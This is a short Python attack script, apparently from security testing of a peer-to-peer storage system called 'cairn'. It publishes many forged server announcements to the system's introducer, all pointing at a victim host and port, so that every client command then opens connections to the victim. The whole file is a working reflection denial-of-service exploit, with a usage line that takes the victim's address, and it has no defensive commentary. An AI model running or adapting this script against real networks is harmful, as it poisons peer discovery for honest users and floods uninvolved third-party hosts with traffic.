"""Introducer abuse: publish N minted announcements whose 16 addresses all point at a victim
host:port. Every client verb (cairn ls/put/get/status, which call ClientNode.awaitServers ->
reachable() -> pool.connect() for EVERY known server) then connects to the victim.
usage: a2_reflect_publish.py N VICTIM_HOST VICTIM_PORT [addrs_per_ann]
"""
import struct, sys
from cairnlib import Conn, PUBLISH, describe
from ann import mint

INTRO_PORT = 46100
n = int(sys.argv[1]); vh = sys.argv[2]; vp = int(sys.argv[3])
per = int(sys.argv[4]) if len(sys.argv) > 4 else 16
c = Conn(port=INTRO_PORT)
ok = 0; errs = {}
for i in range(n):
    # 16 addresses: same host, consecutive ports (or the same port repeated)
    addrs = [(vh, vp + (j if per > 1 and len(sys.argv) > 5 else 0)) for j in range(per)]
    a, nid, _ = mint(addrs, nickname=f"evil{i}")
    t, b = c.call(PUBLISH, struct.pack(">I", len(a)) + a)
    d = describe(t, b)
    if d.startswith("OK"):
        ok += 1
    else:
        errs[d[:90]] = errs.get(d[:90], 0) + 1
print("published ok:", ok, "errors:", errs)
